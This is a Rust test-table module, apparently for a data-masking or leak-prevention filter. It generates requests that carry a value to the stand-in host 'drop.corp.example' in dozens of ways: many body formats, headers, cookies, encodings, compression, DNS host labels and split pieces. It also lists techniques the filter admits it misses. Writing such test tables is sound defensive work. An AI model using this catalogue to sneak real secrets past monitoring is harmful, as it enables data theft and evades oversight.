//! The table: one row a technique, as the requests that carry a value out.

use serde_json::{Map, Value, json};

use super::place::{
    Place, body, cookie, form, in_url, json, json_as_it_is, multipart, pairs, parts, pieces, query,
    query_as_it_is, record, text, to,
};
use super::veil::{self, Veil};
use crate::masking::coded;
use crate::masking::request::Request;

/// Where all of it is sent.
pub(super) const HOST: &str = "drop.corp.example";
/// Below it, a label that the upstream answers for.
pub(super) const LABEL: &str = "the-weather";
pub(super) const ECHO: &str = "/test/echo";
/// Cookies are where credentials belong.
const SPARES_KEYS: [&str; 1] = ["cookie"];

/// From a value to the requests that carry it.
type Carry = dyn Fn(&str) -> Vec<Request>;
/// From the pieces of a value to the request that holds them all.
type Spread = fn(&[&str]) -> Request;
/// A content coding.
type Code = fn(&[u8]) -> Vec<u8>;

/// One technique.
pub(super) struct Row {
    pub(super) technique: String,
    /// What was sent before matters.
    pub(super) is_in_pieces: bool,
    /// Keys leave by it, as a row of the other table says: only what was planted is looked for.
    pub(super) spares_keys: bool,
    carry: Box<Carry>,
}

impl Row {
    fn new(technique: &str, carry: impl Fn(&str) -> Vec<Request> + 'static) -> Self {
        Self {
            technique: technique.to_owned(),
            is_in_pieces: false,
            spares_keys: SPARES_KEYS.iter().any(|spares| technique.contains(spares)),
            carry: Box::new(carry),
        }
    }

    /// A value under a veil in a place.
    fn one(technique: &str, (veil, place): (Veil, Place)) -> Self {
        Self::new(technique, move |value| vec![place(&veil(value))])
    }

    fn in_pieces(technique: &str, carry: impl Fn(&str) -> Vec<Request> + 'static) -> Self {
        Self {
            is_in_pieces: true,
            ..Self::new(technique, carry)
        }
    }

    /// The requests by which this value would leave.
    pub(super) fn requests(&self, value: &str) -> Vec<Request> {
        (self.carry)(value)
    }
}

/// What is found and blocked.
pub(super) fn covered() -> Vec<Row> {
    [places(), veils(), codings(), splits()]
        .into_iter()
        .flatten()
        .collect()
}

/// What leaves, as `SECURITY.md` says: whoever wants to can write a value so that no table of encodings has it.
pub(super) fn uncovered() -> Vec<Row> {
    let mut rows = vec![
        Row::one("a cookie", (veil::plain, cookie)),
        Row::one("backwards", (veil::backwards, json)),
        Row::one("rot13", (veil::rot13, json)),
        Row::one("the numbers of its letters", (veil::numbers, json)),
        Row::one("enciphered", (veil::enciphered, json)),
        Row::one("compressed within base64", (veil::base64_of_gzip, json)),
    ];
    rows.push(Row::in_pieces("a letter a request", |value| {
        let letters = value.chars().map(|letter| query(&letter.to_string()));
        letters.collect()
    }));
    rows.push(Row::in_pieces("among many other fields", |value| {
        let mut fields = Map::new();
        for (at, piece) in pieces(value, 4).iter().enumerate() {
            for other in 0..8 {
                fields.insert(format!("{at}-{other}"), json!(format!("v{at}{other}")));
            }
            fields.insert(format!("{at}-own"), json!(piece));
        }
        vec![to().json(&Value::Object(fields))]
    }));
    rows
}

/// The value as it is, wherever data can leave.
fn places() -> Vec<Row> {
    let places: [(&str, Place); 21] = [
        ("JSON", json),
        ("a key of JSON", |text| to().json(&json!({ text: 1 }))),
        ("JSON within JSON", |text| {
            to().json(&json!({ "note": json!({ "inner": text }).to_string() }))
        }),
        ("a query", query),
        ("the name of a parameter", |text| {
            Request::to(HOST, &format!("{ECHO}?{}=1", in_url(text)))
        }),
        ("a path", |text| {
            Request::to(HOST, &format!("/services/{}/x", in_url(text)))
        }),
        ("a header", |text| to().header("x-note", text)),
        ("the user agent", |text| to().header("user-agent", text)),
        ("a cookie", cookie),
        ("a form", |text| form(&[text])),
        ("a part", |text| multipart(&[text])),
        ("a file's name", |text| {
            let head =
                format!("Content-Disposition: form-data; name=\"file\"; filename=\"{text}.txt\"");
            parts(&[(&head, "nothing")])
        }),
        ("a file", |text| {
            let head = "Content-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain";
            parts(&[(head, &format!("the word is {text}\n"))])
        }),
        ("text", |text| body("text/plain", &format!("so: {text}\n"))),
        ("NDJSON", |text| {
            let line = json!({ "n": text }).to_string();
            body("application/x-ndjson", &format!("{{\"n\":1}}\n{line}\n"))
        }),
        ("CSV", |text| {
            body("text/csv", &format!("a,b\n1,\"{text}\"\n"))
        }),
        ("XML", |text| {
            body("application/xml", &format!("<a b=\"1\"><c>{text}</c></a>"))
        }),
        ("an attribute of XML", |text| {
            body("application/xml", &format!("<a b=\"{text}\"/>"))
        }),
        ("YAML", |text| {
            body("application/yaml", &format!("a:\n  - b: {text}\n"))
        }),
        ("a record of bytes", record),
        ("a body without a type", |text| {
            body("", &format!("so: {text}\n"))
        }),
    ];
    let plain: Veil = veil::plain;
    let rows = places.map(|(name, place)| Row::one(name, (plain, place)));
    rows.into_iter().collect()
}

/// The value under something, in a body and, where it can stand there, in a query.
fn veils() -> Vec<Row> {
    let veils: [(&str, Veil); 24] = [
        ("base32", veil::base32),
        ("base64", veil::base64),
        ("base64 in lines", veil::base64_in_lines),
        ("base64 of hex", veil::base64_of_hex),
        ("base64 of URLs", veil::base64_of_urls),
        ("base64 shifted", veil::base64_shifted),
        ("base64 thrice", veil::base64_thrice),
        ("base64 unpadded", veil::base64_unpadded),
        ("entities", veil::entities),
        ("entities in hex", veil::entities_in_hex),
        ("full width", veil::full_width),
        ("hex", veil::hex),
        ("hex in capitals", veil::hex_in_capitals),
        ("hex of base64", veil::hex_of_base64),
        ("hex of C", veil::hex_of_c),
        ("hex with blanks", veil::hex_with_blanks),
        ("hex with colons", veil::hex_with_colons),
        ("homoglyphs", veil::homoglyphs),
        ("marks of direction", veil::marks_of_direction),
        ("mathematical letters", veil::mathematical),
        ("quoted-printable", veil::quoted_printable),
        ("soft hyphens", veil::soft_hyphens),
        ("tags", veil::tags),
        ("zero width", veil::zero_width),
    ];
    let mut rows = Vec::new();
    for (name, veil) in veils {
        rows.push(Row::one(name, (veil, json)));
        rows.push(Row::one(&format!("{name} in a query"), (veil, query)));
        rows.push(Row::one(&format!("{name} in text"), (veil, text)));
    }
    let written: [(&str, Veil, Place); 7] = [
        ("percent", veil::percent, query_as_it_is),
        ("percent twice", veil::percent_twice, query_as_it_is),
        ("percent thrice", veil::percent_thrice, query_as_it_is),
        ("percent in JSON", veil::percent, json),
        ("percent of scripts", veil::percent_of_scripts, json),
        ("escapes of JSON", veil::escapes, json_as_it_is),
        ("escapes of JSON twice", veil::escapes_twice, json_as_it_is),
    ];
    rows.extend(written.map(|(name, veil, place)| Row::one(name, (veil, place))));
    let labels: [(&str, Veil); 2] = [("hex", veil::hex), ("base32", veil::base32)];
    rows.extend(labels.map(|(name, veil)| {
        Row::new(&format!("{name} in labels of a host"), move |value| {
            let hidden = veil(value).trim_end_matches('=').to_lowercase();
            let labels = pieces(&hidden, hidden.len().div_ceil(50)).join(".");
            let is_allowed = value.starts_with(LABEL);
            let labels = if is_allowed { LABEL } else { &labels };
            vec![Request::to(&format!("{labels}.{HOST}"), ECHO)]
        })
    }));
    rows
}

fn codings() -> Vec<Row> {
    let codings: [(&'static str, Code); 4] = [
        ("br", coded::brotli),
        ("deflate", coded::deflate),
        ("gzip", coded::gzip),
        ("zstd", coded::zstd),
    ];
    let mut rows: Vec<Row> = codings
        .into_iter()
        .map(|(name, code)| {
            Row::new(name, move |value| {
                let coded = code(json!({ "note": value }).to_string().as_bytes());
                vec![
                    to().header("content-encoding", name)
                        .body("application/json", coded),
                ]
            })
        })
        .collect();
    rows.push(Row::new("gzip twice", |value| {
        let coded = coded::gzip(&coded::gzip(
            json!({ "note": value }).to_string().as_bytes(),
        ));
        let request = to().header("content-encoding", "gzip, gzip");
        vec![request.body("application/json", coded)]
    }));
    rows
}

/// The value in pieces.
fn splits() -> Vec<Row> {
    let mut rows = Vec::new();
    let whole: [(&str, Spread); 9] = [
        ("parameters", |pieces| {
            Request::to(HOST, &format!("{ECHO}?{}", pairs(pieces)))
        }),
        ("segments", |pieces| {
            Request::to(HOST, &format!("/services/{}", pieces.join("/")))
        }),
        ("headers", |pieces| {
            let numbered = pieces.iter().enumerate();
            numbered.fold(to(), |request, (at, piece)| {
                request.header(&format!("x-{at}"), piece)
            })
        }),
        ("cookies", |pieces| {
            to().header("cookie", &pairs(pieces).replace('&', "; "))
        }),
        ("fields of JSON", |pieces| {
            let numbered = pieces.iter().enumerate();
            let fields = numbered.map(|(at, piece)| (format!("field{at}"), json!(piece)));
            to().json(&Value::Object(fields.collect()))
        }),
        ("items of JSON", |pieces| {
            to().json(&json!({ "items": pieces }))
        }),
        ("depths of JSON", |pieces| {
            let nested = pieces
                .iter()
                .rev()
                .fold(json!(1), |inner, piece| json!({ "a": piece, "b": inner }));
            to().json(&nested)
        }),
        ("fields of a form", form),
        ("parts", multipart),
    ];
    for (name, place) in whole {
        for count in [2, 4] {
            rows.push(Row::in_pieces(&format!("{count} {name}"), move |value| {
                let pieces = pieces(value, count);
                let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
                vec![place(&pieces)]
            }));
        }
    }
    for (name, place) in [("queries", query as Place), ("bodies", json)] {
        for count in [2, 4] {
            rows.push(Row::in_pieces(
                &format!("{count} requests' {name}"),
                move |value| {
                    let pieces = pieces(value, count);
                    pieces.iter().map(|piece| place(piece)).collect()
                },
            ));
        }
    }
    rows.push(Row::in_pieces(
        "a parameter, a header and a field",
        |value| {
            let pieces = pieces(value, 3);
            let [first, second, third] = [&pieces[0], &pieces[1], &pieces[2]];
            let request = Request::to(HOST, &format!("{ECHO}?a={first}"));
            vec![request.header("x-b", second).json(&json!({ "c": third }))]
        },
    ));
    rows
}
